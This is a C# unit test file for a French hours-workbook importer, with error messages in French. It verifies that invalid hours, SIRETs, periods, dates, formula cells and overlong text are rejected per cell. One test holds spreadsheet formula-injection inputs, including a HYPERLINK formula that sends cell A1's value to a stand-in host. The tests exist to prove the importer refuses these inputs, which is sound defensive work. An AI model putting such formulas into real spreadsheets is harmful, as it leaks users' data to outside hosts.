using Clauses.Api.Hours.Workbooks;
using static Clauses.Api.Tests.Workbooks.TestXlsx;

namespace Clauses.Api.Tests.Workbooks;

public class HoursWorkbookReaderErrorTests
{
    private static (string Column, object? Value)[] Good(int lot = 1) =>
        [("A", lot), ("B", "DUPONT Marie – P-000123"), ("C", "73282932000074"), ("D", "Embauche directe en CDI"), ("E", "03/2025"), ("F", 35), ("G", 100), ("H", "CT-1")];

    private static (string Column, object? Value)[] With(string column, object? value) =>
        [.. Good().Where(c => c.Column != column), (column, value)];

    private static (List<ImportRow> Rows, List<CellError> Errors) ReadRows(params string[] rows)
    {
        var (r, e, _) = Read(Build(new Sheet("Heures", TemplateHeader() + string.Concat(rows))));
        return (r, e);
    }

    private static string SortedRow(int row, (string Column, object? Value)[] cells) => Row(row, [.. cells.OrderBy(c => c.Column, StringComparer.Ordinal)]);

    [Theory]
    [InlineData("F", "trente", "hours", "« trente » n'est pas un nombre d'heures")]
    [InlineData("F", "35 h", "hours", "« 35 h » n'est pas un nombre d'heures")]
    [InlineData("A", "premier", "lotNumber", "« premier » n'est pas un numéro de lot")]
    [InlineData("C", "123 456", "employerSiret", "« 123 456 » n'est pas un SIRET (14 chiffres attendus)")]
    [InlineData("D", "Intérim", "modality", "« Intérim » n'est pas une modalité reconnue")]
    [InlineData("E", "bientôt", "period", "« bientôt » n'est pas une période reconnue")]
    [InlineData("E", "31/02/2025", "period", "« 31/02/2025 » n'est pas une période reconnue")]
    [InlineData("E", "2025-W54", "period", "n'est pas une période reconnue")]
    [InlineData("G", "beaucoup", "invoicedAmountHt", "« beaucoup » n'est pas un montant")]
    [InlineData("F", 250, "hours", "250 heures sur un mois")]
    public void Wrong_values_are_reported_on_their_cell_and_the_row_is_still_passed(string column, object value, string field, string message)
    {
        var (rows, errors) = ReadRows(SortedRow(2, Good()), SortedRow(3, With(column, value)));

        var error = Assert.Single(errors);
        Assert.Equal(new CellError("Heures", 3, column, field, error.Message), error);
        Assert.Contains(message, error.Message, StringComparison.Ordinal);
        Assert.Equal(2, rows.Count);
        var faulty = rows[1];
        var property = typeof(ImportRow).GetProperties().Single(p => string.Equals(p.Name, field, StringComparison.OrdinalIgnoreCase)
            || (field == "lotNumber" && p.Name == "LotNumber"));
        Assert.Null(property.GetValue(faulty));
        Assert.NotNull(property.GetValue(rows[0]));
    }

    [Fact]
    public void Week_above_48_hours_and_negative_hours_are_refused()
    {
        var xlsx = Build(new Sheet("Heures", string.Concat(
            Row(1, ("A", "Lot"), ("B", "Participant"), ("C", "Modalité"), ("D", "Semaine"), ("E", "Heures")),
            Row(2, ("A", 1), ("B", "P-1"), ("C", "CDI"), ("D", "2025-W10"), ("E", 49)),
            Row(3, ("A", 1), ("B", "P-1"), ("C", "CDI"), ("D", "2025-W11"), ("E", "-3")),
            Row(4, ("A", 1), ("B", "P-1"), ("C", "CDI"), ("D", "2025-W12"), ("E", -3)))));
        var (_, errors, _) = Read(xlsx);
        Assert.Equal(3, errors.Count);
        Assert.StartsWith("49 heures sur une semaine", errors[0].Message, StringComparison.Ordinal);
        Assert.Equal(("E", 3, "Texte refusé : il commence par « - »"), (errors[1].Column, errors[1].Row, errors[1].Message));
        Assert.Equal(("E", 4, "Le nombre d'heures ne peut pas être négatif"), (errors[2].Column, errors[2].Row, errors[2].Message));
    }

    [Fact]
    public void Formula_cells_are_refused_even_with_a_cached_value()
    {
        var (rows, errors) = ReadRows(SortedRow(2, With("F", Formula("SUM(10,25)", "35"))), SortedRow(3, With("H", new Raw("<c r=\"{r}\" t=\"str\"><f>A1&amp;\"x\"</f><v>1x</v></c>"))));

        Assert.Equal(2, errors.Count);
        Assert.Equal(new CellError("Heures", 2, "F", "hours", "Les formules ne sont pas acceptées : collez la valeur"), errors[0]);
        Assert.Equal(new CellError("Heures", 3, "H", "evidenceReference", "Les formules ne sont pas acceptées : collez la valeur"), errors[1]);
        Assert.Null(rows[0].Hours);
        Assert.Null(rows[1].EvidenceReference);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Cliquez\")", "=")]
    [InlineData("+1", "+")]
    [InlineData("@SUM(A1)", "@")]
    [InlineData("-2+3", "-")]
    [InlineData("  =1+1", "=")]
    public void Formula_injection_texts_are_refused(string text, string first)
    {
        var (rows, errors) = ReadRows(SortedRow(2, With("H", text)), SortedRow(3, With("B", text)));

        Assert.Equal(2, errors.Count);
        Assert.Equal(new CellError("Heures", 2, "H", "evidenceReference", $"Texte refusé : il commence par « {first} »"), errors[0]);
        Assert.Equal(new CellError("Heures", 3, "B", "participantReference", $"Texte refusé : il commence par « {first} »"), errors[1]);
        Assert.Null(rows[0].EvidenceReference);
        Assert.Null(rows[1].ParticipantReference);
    }

    [Fact]
    public void Tabs_carriage_returns_and_long_texts_are_refused()
    {
        var (_, errors) = ReadRows(SortedRow(2, With("H", "\tCT-1")), SortedRow(3, With("H", "CT_x000D_1")), SortedRow(4, With("H", new string('x', 201))),
            SortedRow(5, With("H", new string('x', 200))));

        Assert.Equal(3, errors.Count);
        Assert.Equal(("H", 2, "Texte refusé : il contient une tabulation ou un retour chariot"), (errors[0].Column, errors[0].Row, errors[0].Message));
        Assert.Equal(("H", 3), (errors[1].Column, errors[1].Row));
        Assert.Equal(("H", 4, "Texte trop long (201 caractères, 200 au maximum)"), (errors[2].Column, errors[2].Row, errors[2].Message));
    }

    [Fact]
    public void Missing_required_values_are_reported_on_their_cells()
    {
        var (rows, errors) = ReadRows(Row(2, ("A", 1), ("H", "CT-1")), Row(3, ("B", "P-1"), ("D", "CDI"), ("E", "03/2025"), ("F", 0)));

        Assert.Equal(["B2", "D2", "E2", "F2", "A3"], errors.Select(e => e.Column + e.Row));
        Assert.Equal("Valeur obligatoire : Lot", errors[4].Message);
        Assert.Equal("Indiquez la référence du participant, ou ses nom, prénom et date de naissance", errors[0].Message);
        Assert.Equal(2, rows.Count);
        Assert.Equal(0m, rows[1].Hours);
    }

    [Fact]
    public void Excel_error_values_and_bad_birth_dates_are_reported()
    {
        var xlsx = Build(new Sheet("Heures", string.Concat(
            Row(1, ("A", "Lot"), ("B", "Nom"), ("C", "Prénom"), ("D", "Date de naissance"), ("E", "Modalité"), ("F", "Période"), ("G", "Heures")),
            Row(2, ("A", 1), ("B", "Dupont"), ("C", "Marie"), ("D", "32/13/1990"), ("E", "CDI"), ("F", "03/2025"), ("G", new Raw("<c r=\"{r}\" t=\"e\"><v>#N/A</v></c>"))),
            Row(3, ("A", 1), ("B", "Dupont"), ("E", "CDI"), ("F", "03/2025"), ("G", 1)))));

        var (_, errors, _) = Read(xlsx);

        Assert.Equal(4, errors.Count);
        Assert.Equal(new CellError("Heures", 2, "D", "birthDate", "« 32/13/1990 » n'est pas une date (jj/mm/aaaa attendu)"), errors[0]);
        Assert.Equal(new CellError("Heures", 2, "G", "hours", "La cellule contient une erreur Excel (#N/A)"), errors[1]);
        Assert.Equal(["C3", "D3"], errors.Skip(2).Select(e => e.Column + e.Row));
    }

    [Fact]
    public void Errors_stop_after_MaxErrors_with_one_final_error_but_rows_are_still_counted()
    {
        var rows = Enumerable.Range(2, 20).Select(r => SortedRow(r, With("F", "trente"))).ToArray();
        var (read, errors, summary) = Read(Build(new Sheet("Heures", TemplateHeader() + string.Concat(rows))), new WorkbookLimits(MaxErrors: 5));

        Assert.Equal(6, errors.Count);
        Assert.All(errors.Take(5), e => Assert.Equal("F", e.Column));
        Assert.Equal("", errors[5].Column);
        Assert.Equal(7, errors[5].Row);
        Assert.Equal("Plus de 5 erreurs : les suivantes ne sont pas listées. Corrigez celles-ci puis renvoyez le fichier.", errors[5].Message);
        Assert.Equal(20, summary.Rows);
        Assert.Equal(20, read.Count);
    }

    [Fact]
    public void A_number_SIRET_is_read_back_exactly_and_leading_zeros_restored()
    {
        var (rows, errors) = ReadRows(SortedRow(2, With("C", new Raw("<c r=\"{r}\"><v>7.3282932000074E13</v></c>"))),
            SortedRow(3, With("C", new Raw("<c r=\"{r}\"><v>1234567890123</v></c>"))), SortedRow(4, With("C", "732\u00A0829\u202F320 00074")));
        Assert.Empty(errors);
        Assert.Equal(["73282932000074", "01234567890123", "73282932000074"], rows.Select(r => r.EmployerSiret));
    }
}
